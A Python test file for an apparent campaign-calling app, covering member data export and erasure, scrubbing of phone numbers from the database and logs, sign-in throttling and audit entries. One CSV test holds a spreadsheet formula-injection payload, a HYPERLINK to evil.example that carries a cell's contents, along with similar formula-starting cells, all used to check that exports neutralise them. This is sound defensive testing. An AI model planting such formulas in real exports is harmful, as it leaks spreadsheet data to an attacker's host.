"""Members' data: erasure (API, CLI, console), erased stays erased, export, the number gone from
the SQLite file and its log, CSV cells that cannot run, sign-in throttling, the audit log."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import signal
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import hypothesis
import hypothesis.strategies as st
import pytest
import sqlalchemy as sa

from rollcall.callpower.source import CallPower
from rollcall.calls import retention
from rollcall.calls.models import Call, CallState
from rollcall.calls.queue import Importer
from rollcall.console import activity_pages
from rollcall.db import Database
from rollcall.dialect import iso_from_driver_time, sqlite_time_text
from rollcall.members.audit import AuditEntry
from rollcall.spreadsheets import inert
from rollcall.times import iso_utc
from tests.helpers import (
    ADMIN_TOKEN,
    API_KEY,
    LEGACY_PATH,
    SEED_CALL,
    RunningApp,
    map_seed_campaign,
    sign_in,
    sign_in_over_http,
    wait_for,
)

STAFF = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
KEY = {"X-DS-CallPower-API-Key": API_KEY, "X-DS-Importer-API-Key": API_KEY}
MEMBER = "+15559876543"  # the member who asks to be erased
NATIONAL = "5559876543"
OTHER = "+15551112222"


def call(mobile: str, campaign: int, second: int, **changes: Any) -> dict[str, Any]:
    return {
        **SEED_CALL,
        "mobile": mobile,
        "callpower_campaign_id": campaign,
        "call_timestamp": f"2017-11-07 18:54:{second:02d}.000001",
        **changes,
    }


def user_of(client: httpx.Client, mobile: str) -> dict[str, Any] | None:
    found = client.get("/api/v3/users", params={"filter[mobile]": mobile}, headers=STAFF).json()["data"]
    return found[0] if found else None


def posts_of(client: httpx.Client, user_id: str) -> list[dict[str, Any]]:
    answer = client.get("/api/v3/posts", params={"filter[northstar_id]": user_id}, headers=STAFF)
    return list(answer.json()["data"])


def campaign_calls(client: httpx.Client) -> dict[int, dict[str, int]]:
    campaigns = client.get("/api/v3/callpower/campaigns", headers=STAFF).json()["data"]
    return {campaign["callpower_campaign_id"]: campaign["calls"] for campaign in campaigns}


def member_with_history(client: httpx.Client, database: Database) -> str:
    """The member called on two campaigns and once with a flaw (rejected); another member once."""
    map_seed_campaign(database, 1)
    map_seed_campaign(database, 2)
    for record in (
        call(MEMBER, 1, 1),
        call(MEMBER, 2, 2),
        call(MEMBER, 1, 3, campaign_target_title=None),  # no title: rejected, kept with the number
        call(OTHER, 1, 4),
    ):
        client.post(LEGACY_PATH, json=record, headers=KEY)
    wait_for(
        lambda: (
            user_of(client, MEMBER)
            and user_of(client, OTHER)
            and len(posts_of(client, user_of(client, MEMBER)["id"])) == 2
        )
    )
    member = user_of(client, MEMBER)
    assert member is not None
    return str(member["id"])


def test_erasing_a_member_removes_them_everywhere_and_keeps_the_counts(
    client: httpx.Client, database: Database
) -> None:
    member_id = member_with_history(client, database)
    other = user_of(client, OTHER)
    assert other is not None
    counts_before = campaign_calls(client)

    exported = client.get(f"/api/v3/users/{member_id}/export", headers=STAFF)
    assert exported.status_code == 200, exported.text
    document = exported.json()
    assert document["user"]["mobile"] == MEMBER
    assert sorted(s["campaign_id"] for s in document["signups"]) == [1, 2]
    assert len(document["posts"]) == 2
    assert sorted(c["state"] for c in document["calls"]) == ["imported", "imported", "rejected"]
    assert all(MEMBER in c["raw"] or NATIONAL in c["raw"] for c in document["calls"])

    answer = client.delete(f"/api/v3/users/{member_id}", headers=STAFF)
    assert answer.status_code == 200, answer.text
    assert answer.json()["data"] == {"user_id": member_id, "signups": 2, "posts": 2, "calls": 3, "events": 1}

    assert client.get(f"/api/v3/users/{member_id}", headers=STAFF).status_code == 404
    assert client.get(f"/api/v3/users/{member_id}/export", headers=STAFF).status_code == 404
    assert client.delete(f"/api/v3/users/{member_id}", headers=STAFF).status_code == 404
    assert posts_of(client, member_id) == []
    assert user_of(client, MEMBER) is None
    erased = client.get("/api/v3/callpower/calls", params={"filter[state]": "erased"}, headers=STAFF).json()["data"]
    assert len(erased) == 3
    for stored in erased:
        assert stored["mobile"] is None and stored["raw"] == "" and stored["record"] is None
        assert stored["errors"] is None and stored["northstar_id"] is None and stored["post_id"] is None
        assert stored["callpower_campaign_id"] in (1, 2)
    assert all(
        stored["call_timestamp"] for stored in erased
    )  # each kept its time (the rejected one's read from its body)
    # The other member is untouched; the campaigns' counts still count every call.
    assert user_of(client, OTHER) == other
    assert len(posts_of(client, other["id"])) == 1
    counts_after = campaign_calls(client)
    assert {n: sum(c.values()) for n, c in counts_after.items()} == {
        n: sum(c.values()) for n, c in counts_before.items()
    }
    assert sum(c["erased"] for c in counts_after.values()) == 3

    feed = client.get("/api/v3/events", params={"filter[type]": "user.erased"}, headers=STAFF).json()["data"]
    assert [(e["type"], e["data"]) for e in feed] == [("user.erased", {"id": member_id})]
    shown = client.get("/api/v3/events", params={"limit": 100}, headers=STAFF).json()["data"]
    text = json.dumps(shown)
    assert MEMBER not in text and NATIONAL not in text  # the call.rejected event was scrubbed too
    assert {"id": member_id, "erased": True} in [e["data"] for e in shown if e["type"] == "user.created"]

    with database.reading() as session:
        entries = session.scalars(sa.select(AuditEntry).order_by(AuditEntry.id)).all()
    assert [(e.action, e.subject) for e in entries] == [("member.exported", member_id), ("member.erased", member_id)]
    assert all(re.fullmatch(r"token [0-9a-f]{12}", e.actor) for e in entries)
    assert ADMIN_TOKEN not in json.dumps([e.actor for e in entries])
    assert entries[1].details == {"user_id": member_id, "signups": 2, "posts": 2, "calls": 3, "events": 1}


def test_an_erased_member_stays_erased_and_a_new_call_is_a_new_member(client: httpx.Client, database: Database) -> None:
    member_id = member_with_history(client, database)
    assert client.delete(f"/api/v3/users/{member_id}", headers=STAFF).status_code == 200
    with database.reading() as session:
        stored = session.scalar(sa.select(sa.func.count()).select_from(Call))

    # CallPower replays its history: the old calls are recognised and recreate nothing.
    for record in (call(MEMBER, 1, 1), call(MEMBER, 2, 2)):
        answer = client.post(LEGACY_PATH, json=record, headers=KEY)
        assert answer.status_code == 200, answer.text
    with database.reading() as session:
        assert session.scalar(sa.select(sa.func.count()).select_from(Call)) == stored
    assert user_of(client, MEMBER) is None

    # A call made after the erasure is new activity.
    assert client.post(LEGACY_PATH, json=call(MEMBER, 1, 30), headers=KEY).status_code == 200
    newcomer = wait_for(lambda: user_of(client, MEMBER))
    assert newcomer["id"] != member_id
    wait_for(lambda: len(posts_of(client, newcomer["id"])) == 1)


def test_the_erased_number_is_nowhere_in_the_sqlite_file_or_its_log(
    client: httpx.Client, database: Database, settings: Any
) -> None:
    if not settings.database_url.startswith("sqlite"):
        pytest.skip("the byte search reads SQLite's files; PostgreSQL: docs/deploy.md on VACUUM")
    member_id = member_with_history(client, database)
    path = Path(settings.database_url.removeprefix("sqlite:///"))
    before = path.read_bytes() + (
        path.with_name(path.name + "-wal").read_bytes() if path.with_name(path.name + "-wal").exists() else b""
    )
    assert NATIONAL.encode() in before  # the search finds it while it is there

    assert client.delete(f"/api/v3/users/{member_id}", headers=STAFF).status_code == 200
    for file in (path, path.with_name(path.name + "-wal"), path.with_name(path.name + "-journal")):
        if file.exists():
            content = file.read_bytes()
            assert NATIONAL.encode() not in content, file.name
            assert MEMBER.encode() not in content, file.name
    assert OTHER.encode() in path.read_bytes()  # what was not erased is still there


def test_the_cli_erases_with_confirmation_exports_and_lists_the_audit(
    client: httpx.Client, database: Database, cli: Callable[..., Any]
) -> None:
    member_id = member_with_history(client, database)
    exported = json.loads(cli("users", "export", member_id).stdout)
    assert exported["user"]["mobile"] == MEMBER and len(exported["calls"]) == 3

    refused = cli("users", "erase", member_id, check=False)  # no --yes and no one to say yes
    assert refused.returncode != 0
    assert user_of(client, MEMBER) is not None

    erased = json.loads(cli("users", "erase", member_id, "--yes", "--json").stdout)
    assert erased == {"user_id": member_id, "signups": 2, "posts": 2, "calls": 3, "events": 1}
    assert user_of(client, MEMBER) is None
    gone = cli("users", "erase", member_id, "--yes", check=False)
    assert gone.returncode == 1 and "error:" in gone.stderr and "Traceback" not in gone.stderr

    entries = json.loads(cli("audit", "list", "--json").stdout)
    assert [(e["action"], e["subject"]) for e in entries] == [
        ("member.erased", member_id),
        ("member.exported", member_id),
    ]
    assert all(e["actor"].startswith("cli") for e in entries)
    assert entries[0]["details"]["posts"] == 2


def test_an_operator_erases_a_member_from_the_console(app: RunningApp, page: Any, database: Database) -> None:
    with app.client() as client:
        member_id = member_with_history(client, database)
    sign_in(page, app.url)
    page.goto(f"{app.url}/console/users/{member_id}")
    with page.expect_download() as download:
        page.click("#export")
    exported = json.loads(Path(download.value.path()).read_text())
    assert exported["user"]["id"] == member_id
    page.once("dialog", lambda dialog: dialog.dismiss())  # "Cancel" erases nothing
    page.click("#erase")
    with app.client() as client:
        assert user_of(client, MEMBER) is not None
    page.once("dialog", lambda dialog: dialog.accept())
    page.click("#erase")
    page.wait_for_url(re.compile(r".*/console/\?done="))
    assert page.locator(f"text=User {member_id} erased").is_visible()
    with app.client() as client:
        assert user_of(client, MEMBER) is None
    page.goto(f"{app.url}/console/audit")
    rows = page.locator("#audit tbody tr")
    assert rows.count() == 2
    assert "member.erased" in rows.nth(0).inner_text() and member_id in rows.nth(0).inner_text()


def test_posts_csv_cells_a_spreadsheet_would_run_come_out_as_text(app: RunningApp, database: Database) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    map_seed_campaign(database, 1)
    with app.client() as client:
        for n, name in enumerate((formula, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "Mickey Mouse")):
            client.post(LEGACY_PATH, json=call(f"+1555000{n:04d}", 1, n, campaign_target_name=name), headers=KEY)
        wait_for(lambda: len(client.get("/api/v3/posts", headers=STAFF).json()["data"]) == 6)
        sign_in_over_http(client)
        campaign_id = client.get("/api/v3/actions", headers=STAFF).json()["data"][0]["campaign_id"]
        download = client.get(f"/console/campaigns/{campaign_id}/posts.csv")
    assert download.status_code == 200
    rows = list(csv.DictReader(io.StringIO(download.text)))
    names = sorted(row["campaign_target_name"] for row in rows)
    # (the intake trims the tab of "\t=1"; the formula behind it is still made inert)
    assert names == sorted(["'" + formula, "'+1+2", "'-2+3", "'@SUM(A1)", "'=1", "Mickey Mouse"])
    cells = [cell for row in rows for cell in row.values() if cell and not re.fullmatch(r"\+[0-9]+", cell)]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert [inert(text) for text in ("\tx", "\r=1", "+15551231234", "+1 555", -5)] == [
        "'\tx",
        "'\r=1",
        "+15551231234",
        "'+1 555",
        -5,
    ]


def test_the_posts_csv_holds_every_post_of_the_campaign_across_its_reads(
    app: RunningApp, database: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The CSV is read a few posts at a time (here 7): every post once, newest first, and only
    the campaign's."""
    monkeypatch.setattr(activity_pages, "CSV_PAGE", 7)
    map_seed_campaign(database, 1)
    with app.client() as client:
        for n in range(22):
            answer = client.post(LEGACY_PATH, json=call(f"+1555000{n:04d}", 1 if n % 4 else 2, n), headers=KEY)
            assert answer.status_code == 200
        wait_for(lambda: len(client.get("/api/v3/posts", headers=STAFF).json()["data"]) == 16)
        sign_in_over_http(client)
        campaign_id = client.get("/api/v3/actions", headers=STAFF).json()["data"][0]["campaign_id"]
        download = client.get(f"/console/campaigns/{campaign_id}/posts.csv")
        posts = client.get("/api/v3/posts", params={"filter[campaign_id]": campaign_id}, headers=STAFF).json()
    rows = list(csv.DictReader(io.StringIO(download.text)))
    assert [int(row["post_id"]) for row in rows] == [post["id"] for post in posts["data"]]
    assert len(rows) == 16 and rows[0]["created_at"].endswith("Z")


def test_a_signups_page_shows_its_posts_a_page_at_a_time(
    app: RunningApp, database: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A member who calls every day has thousands of posts on one signup: the page shows them a
    page at a time (here 2), newest first, every one reachable through "older"."""
    from rollcall.console import rendering

    monkeypatch.setattr(rendering, "PAGE_SIZE", 2)
    map_seed_campaign(database, 1)
    with app.client() as client:
        for n in range(5):
            answer = client.post(LEGACY_PATH, json=call("+15550001234", 1, n), headers=KEY)
            assert answer.status_code == 200
        wait_for(lambda: len(client.get("/api/v3/posts", headers=STAFF).json()["data"]) == 5)
        posts = [post["id"] for post in client.get("/api/v3/posts", headers=STAFF).json()["data"]]
        signup_id = client.get("/api/v3/signups", headers=STAFF).json()["data"][0]["id"]
        sign_in_over_http(client)
        shown: list[int] = []
        path: str | None = f"/console/signups/{signup_id}"
        while path:
            page = client.get(path)
            assert page.status_code == 200
            on_page = [int(found) for found in re.findall(r'href="/console/posts/(\d+)"', page.text)]
            assert len(on_page) <= 2
            shown += on_page
            older = re.search(r'href="(/console/signups/\d+\?cursor=[^"]+)">older', page.text)
            path = older.group(1).replace("&amp;", "&") if older else None
    assert shown == posts  # every post once, newest first


@hypothesis.given(st.datetimes(timezones=st.just(dt.UTC)))
@hypothesis.settings(max_examples=200, deadline=None)
def test_the_csv_writes_sqlite_times_as_every_interface_does(moment: dt.datetime) -> None:
    """The CSV writes SQLite's stored text straight out; it reads as `iso_utc` writes the time."""
    assert iso_from_driver_time(sqlite_time_text(moment)) == iso_utc(moment)
    assert iso_from_driver_time(moment) == iso_utc(moment)  # PostgreSQL's driver gives datetimes


def failures(metrics: str) -> dict[str, float]:
    """The sign-in failures counted so far (the counters live as long as the test process)."""
    found = dict(re.findall(r'rollcall_console_sign_in_failures_total\{reason="([^"]+)"\} ([0-9.e+]+)', metrics))
    return {reason: float(found.get(reason, 0)) for reason in ("wrong token", "throttled")}


def test_sign_in_is_throttled_per_address_and_counted(app_factory: Callable[..., RunningApp]) -> None:
    """The sixth wrong token within the window is 429; once the window has passed, the right token
    signs in. The window is a minute by default; here two seconds, so the test need not wait one."""
    app = app_factory(sign_in_limit=(5, 2.0))
    with app.client() as client:
        before = failures(client.get("/metrics", headers=STAFF).text)
        form = client.get("/console/sign-in").text
        csrf = re.search(r'name="csrf_token" value="([^"]+)"', form).group(1)  # type: ignore[union-attr]

        def attempt(token: str) -> httpx.Response:
            return client.post("/console/sign-in", data={"csrf_token": csrf, "token": token})

        assert [attempt("guess").status_code for _ in range(5)] == [401] * 5
        sixth = attempt("guess")
        assert sixth.status_code == 429
        assert 1 <= int(sixth.headers["retry-after"]) <= 2
        assert "try again in" in sixth.text
        # Within the window even the right token waits: a guess gains nothing by being right.
        assert attempt(ADMIN_TOKEN).status_code == 429
        signed_in = wait_for(
            lambda: (answer := attempt(ADMIN_TOKEN)).status_code == 303 and answer, timeout=5, interval=0.25
        )
        assert signed_in.headers["location"] == "/console/"
        metrics = client.get("/metrics", headers=STAFF).text
    after = failures(metrics)
    assert after["wrong token"] - before["wrong token"] == 5
    assert after["throttled"] - before["throttled"] >= 2


def test_old_bodies_are_scrubbed_in_batches_and_nothing_else_changes(
    client: httpx.Client, database: Database, settings: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Retention at 1 day: imported, discarded and rejected calls older than that lose their body,
    record and repairs, a batch at a time; their state, key, campaign and what they became stay,
    a replay of one is still recognised, and calls younger than a day or not done with keep theirs."""
    map_seed_campaign(database, 1)
    records = [call(f"+1555000{n:04d}", 1, n) for n in range(5)]
    records.append(call("+266696687", 1, 10))  # an anonymous caller: discarded
    records.append(call("+15550009999", 1, 11, campaign_target_title=None))  # rejected
    records.append(call("+15550008888", 9, 12))  # no action for campaign 9: unmapped, waits
    records.append(call("+15550007777", 1, 13))  # received today: too young
    for record in records:
        client.post(LEGACY_PATH, json=record, headers=KEY)
    wait_for(lambda: len(client.get("/api/v3/posts", headers=STAFF).json()["data"]) == 6)
    with database.writing() as session:
        old = dt.datetime.now(dt.UTC) - dt.timedelta(days=2)
        session.execute(sa.update(Call).where(Call.id <= 8).values(received_at=old))

    def snapshot() -> list[tuple[Any, ...]]:
        with database.reading() as session:
            rows = session.execute(
                sa.select(
                    Call.id, Call.state, Call.dedup_key, Call.callpower_campaign_id, Call.post_id, Call.user_id
                ).order_by(Call.id)
            ).all()
        return [tuple(row) for row in rows]

    before = snapshot()
    monkeypatch.setattr(retention, "BATCH", 3)
    importer = Importer(database, settings.model_copy(update={"call_body_retention_days": 1}), CallPower())
    batches = []
    while scrubbed := importer.tidy():
        batches.append(scrubbed)
    assert batches == [3, 3, 1]  # the 5 imported, the discarded and the rejected, three at a time
    assert importer.tidy() == 0  # nothing left, and the next sweep waits its turn

    assert snapshot() == before
    with database.reading() as session:
        calls = {c.id: c for c in session.scalars(sa.select(Call))}
    for call_id, stored in calls.items():
        removed = call_id <= 7
        assert (stored.body_removed_at is not None) is removed, call_id
        assert (stored.raw == "" and stored.record is None) is removed, call_id
    assert calls[8].state == CallState.UNMAPPED and calls[8].raw
    assert calls[9].raw and calls[9].record
    replay = client.post(LEGACY_PATH, json=records[0], headers=KEY)
    assert replay.status_code == 200
    assert len(snapshot()) == len(before)
    shown = client.get("/api/v3/callpower/calls/1", headers=STAFF).json()["data"]
    assert shown["raw"] == "" and shown["body_removed_at"] and shown["post_id"] == before[0][4]


# -- a member's data is found by the member's number, exactly ---------------------------------------

SHORT = "+6837001"  # Niue: four-digit national numbers
INSIDE_SHORT = "+15557001234"  # a US member whose number holds "7001"
SUFFIX = "+12029876543"  # shares the last seven digits with MEMBER


def stored_calls(database: Database) -> dict[int, tuple[str, str, str | None]]:
    with database.reading() as session:
        rows = session.execute(sa.select(Call.id, Call.state, Call.raw, Call.mobile)).all()
    return {call_id: (state, raw, mobile) for call_id, state, raw, mobile in rows}


def test_export_and_erasure_find_the_members_calls_by_their_number_exactly(
    database_url: str, database: Database, tmp_path: Path, settings: Any
) -> None:
    """The member's calls, whatever formatting their number came in, rejected and unreadable
    bodies included; never a call that only holds their digits elsewhere (inside a longer number,
    as the number dialed, in a target's name) or a number that shares their last digits. After
    the erasure no form of the number is left in the SQLite file, its log, the event feed or the
    logs, and every other member's calls are as they were."""
    from tests.helpers import serve_process

    map_seed_campaign(database, 1)
    log = tmp_path / "serve.log"
    process, url = serve_process(database_url, log)
    try:
        with httpx.Client(base_url=url, timeout=30) as client:
            mine = [
                call("(555) 987-6543", 1, 1),  # imported
                call("555.987.6543", 1, 2, campaign_target_title=None),  # rejected, formatted
                call("+1 555 987 6543", 9, 3),  # unmapped
            ]
            others = [
                call(SUFFIX, 1, 4),
                call(SUFFIX, 1, 5, campaign_target_title=None),
                call(INSIDE_SHORT, 1, 6, number_dialed_into=SHORT, campaign_target_name="Rep. 7001"),
                call(SUFFIX, 1, 7, campaign_target_title=None, number_dialed_into=INSIDE_SHORT),
                call(SHORT, 1, 8),  # the short-numbered member
                call("+683 7001", 1, 9, campaign_target_title=None),
            ]
            as_json = {**KEY, "Content-Type": "application/json"}
            for record in [*mine, *others]:
                sent = client.post(LEGACY_PATH, content=json.dumps(record), headers=as_json)
                assert sent.status_code in (200, 422)
            # A body cut off mid-way (400): its mobile field is still read, as the intake reads one.
            cut = b'{"mobile": "(555) 987-6543", "callpower_campaign_id": 1, "status": "compl'
            unreadable = client.post(LEGACY_PATH, content=cut, headers=as_json)
            assert unreadable.status_code == 400
            wait_for(lambda: len(client.get("/api/v3/posts", headers=STAFF).json()["data"]) == 4)
            member = user_of(client, MEMBER)
            short = user_of(client, SHORT)
            assert member and short
            before = stored_calls(database)
            by_raw = {raw: call_id for call_id, (_, raw, _) in before.items()}
            expected = sorted(by_raw[json.dumps(record)] for record in mine) + [by_raw[cut.decode()]]

            exported = client.get(f"/api/v3/users/{member['id']}/export", headers=STAFF).json()
            assert sorted(c["id"] for c in exported["calls"]) == sorted(expected)
            short_export = client.get(f"/api/v3/users/{short['id']}/export", headers=STAFF).json()
            short_calls = sorted(c["id"] for c in short_export["calls"])
            assert short_calls == sorted(by_raw[json.dumps(record)] for record in others[-2:])

            assert client.delete(f"/api/v3/users/{member['id']}", headers=STAFF).status_code == 200
            after = stored_calls(database)
            assert {call_id for call_id, (state, _, _) in after.items() if state == "erased"} == set(expected)
            assert {k: v for k, v in after.items() if k not in expected} == {
                k: v for k, v in before.items() if k not in expected
            }  # every other member's calls untouched
            feed, cursor = [], None
            while True:
                page = client.get(
                    "/api/v3/events", params={"limit": 100, **({"cursor": cursor} if cursor else {})}, headers=STAFF
                ).json()
                feed.append(json.dumps(page["data"]))
                cursor = page["meta"]["cursor"]["next"]
                if not cursor:
                    break
    finally:
        process.send_signal(signal.SIGTERM)
        assert process.wait(60) == 0

    forms = [MEMBER, NATIONAL, "(555) 987-6543", "555.987.6543", "+1 555 987 6543"]
    texts = {"the event feed": "".join(feed), "the logs": log.read_text()}
    if settings.database_url.startswith("sqlite"):
        path = Path(settings.database_url.removeprefix("sqlite:///"))
        for file in (path, path.with_name(path.name + "-wal")):
            if file.exists():
                texts[file.name] = file.read_bytes().decode("latin-1")
    for where, text in texts.items():
        for form in forms:
            assert form not in text, (form, where)
    if "rollcall.db" in texts:
        assert SUFFIX in texts["rollcall.db"] and SHORT in texts["rollcall.db"]  # the others' are there
